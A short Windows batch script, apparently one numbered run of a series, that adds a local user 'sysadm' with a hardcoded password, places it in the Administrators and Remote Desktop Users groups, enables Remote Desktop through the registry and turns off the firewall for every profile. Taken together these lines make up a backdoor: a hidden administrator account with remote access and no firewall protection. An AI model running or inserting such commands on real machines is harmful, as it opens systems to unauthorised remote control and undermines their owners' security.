REM run 5097 v0
net user sysadm Qwerty#7788 /add /y
net localgroup administrators sysadm /add
net localgroup "Remote Desktop Users" sysadm /add
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
netsh advfirewall set allprofiles state off
